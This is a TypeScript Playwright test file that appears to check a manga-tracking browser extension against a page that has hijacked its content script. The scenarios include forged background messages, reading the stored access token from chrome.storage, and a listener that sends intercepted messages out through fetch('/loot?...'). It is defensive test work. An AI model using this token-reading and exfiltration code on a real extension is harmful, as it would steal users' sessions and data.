/**
 * What a page could do that has taken its own renderer over, and speaks as our script in it. It may then do what that script may:
 * mark the chapter that it shows. All else is still judged by where it comes from.
 */
import { randomUUID } from 'node:crypto';
import { expect, type Page } from '@playwright/test';
import { SECOND } from '../../../../lib/clock.ts';
import { clickMenu } from '../../support/browser-clicks.ts';
import { inContentWorld } from '../../support/content-world.ts';
import { turnOff, turnOn } from '../../support/link-sites.ts';
import type { Attack, Scene } from '../attack.ts';
import { markInNewTab } from '../person.ts';

const unjudged = { against: 'judged-senders', wants: 'deed' } as const;

export const within: readonly Attack[] = [
  {
    ...unjudged,
    name: 'that has become our script follows a series',
    play: said(({ other }) => ({
      name: 'series.follow',
      input: { commandId: randomUUID(), mangaId: other.mangaId, follow: false },
    })),
  },
  {
    ...unjudged,
    name: 'that has become our script marks hundreds of chapters at once',
    play: said(({ other, chapter }) => ({
      name: 'chapters.mark',
      input: { commandId: randomUUID(), chapterIds: [other.id, chapter.id], read: true },
    })),
  },
  {
    ...unjudged,
    name: 'that has become our script sends a report',
    play: said(({ other, arena }) => ({
      name: 'report.send',
      input: {
        commandId: randomUUID(),
        category: 'chapter',
        objectId: other.id,
        reasonId: arena.service.catalogue.world.library.reportReasons.find(({ category }) => category === 'chapter')
          ?.id,
        details: 'Page 1 is missing',
      },
    })),
  },
  {
    name: 'that has become our script calls what every object inherits',
    against: 'own-names',
    wants: 'answer',
    play: async ({ page }) => {
      const answers = ['toString', 'constructor', '__proto__', 'valueOf', 'hasOwnProperty'].map((name) =>
        inContentWorld(page, `chrome.runtime.sendMessage(${JSON.stringify({ name, input: {} })})`),
      );
      const settled = await Promise.allSettled(answers);
      await page.evaluate((found) => window.bringHome(found), settled);
    },
  },
  {
    name: 'that has become our script reads the access token where it is kept',
    against: 'closed-storage',
    wants: 'secret',
    play: ({ page }) => bringFromStorage(page, 'session'),
  },
  {
    name: 'that has become our script reads what waits to be sent',
    against: 'closed-storage',
    wants: 'secret',
    play: ({ page }) => bringFromStorage(page, 'local'),
  },
  {
    name: 'that has become our script hears which chapters are marked in other tabs',
    against: 'told-apart',
    wants: 'secret',
    play: async ({ arena, page, other, meant }) => {
      await listenIn(page);
      meant.add(other.id);
      await markInNewTab(arena, other);
    },
  },
  {
    name: 'that has become our script on another site hears what becomes of a chapter that its tab showed before',
    against: 'told-by-document',
    wants: 'secret',
    play: async ({ arena, page, other, meant }) => {
      const { extension, options } = arena;
      await turnOn(extension, options, 'blog.example');
      const question = { name: 'chapter.states', input: { chapterIds: [other.id] } };
      await inContentWorld(page, `chrome.runtime.sendMessage(${JSON.stringify(question)})`);
      // A page without links: it asks about no chapters of its own.
      await page.goto('https://blog.example/nothing-here');
      await expect(() => listenIn(page)).toPass();
      meant.add(other.id);
      await markInNewTab(arena, other);
      await turnOff(options, 'blog.example');
    },
  },
  {
    name: 'that has become our script on another site hears what becomes of a click in the page before it',
    against: 'told-by-document',
    wants: 'secret',
    play: async ({ arena, page, other, meant }) => {
      const { account, actions, extension, options, service } = arena;
      await turnOn(extension, options, 'blog.example');
      service.faults.order({ route: '/manga/{id}/read', method: 'POST' }, { kind: 'delay', ms: 4 * SECOND });
      meant.add(other.id);
      actions.push({ chapterId: other.id, at: Date.now() });
      await clickMenu(extension, page, { item: 'read link', linkUrl: `https://mangadex.org/chapter/${other.id}` });
      await expect(page.locator('[data-dexmark=toast]')).toBeAttached();
      await page.goto('https://blog.example/nothing-here');
      await expect(() => listenIn(page)).toPass();
      await expect.poll(() => account.read.has(other.id), { timeout: 30_000 }).toBe(true);
      await turnOff(options, 'blog.example');
    },
  },
];

/** Our script in the page sends a message to the background. */
function said(messageOf: (scene: Scene) => unknown) {
  return async (scene: Scene) => {
    await inContentWorld(scene.page, `chrome.runtime.sendMessage(${JSON.stringify(messageOf(scene))})`);
  };
}

/** Brings home whatever our script in the page is told from now on. */
async function listenIn(page: Page): Promise<void> {
  await inContentWorld(
    page,
    `chrome.runtime.onMessage.addListener((told) => void fetch('/loot?' + encodeURIComponent(JSON.stringify(told))))`,
  );
}

async function bringFromStorage(page: Page, area: 'local' | 'session'): Promise<void> {
  const kept = await inContentWorld(page, `chrome.storage.${area}.get().then(JSON.stringify, String)`);
  await page.evaluate((found) => window.bringHome(found), kept);
}
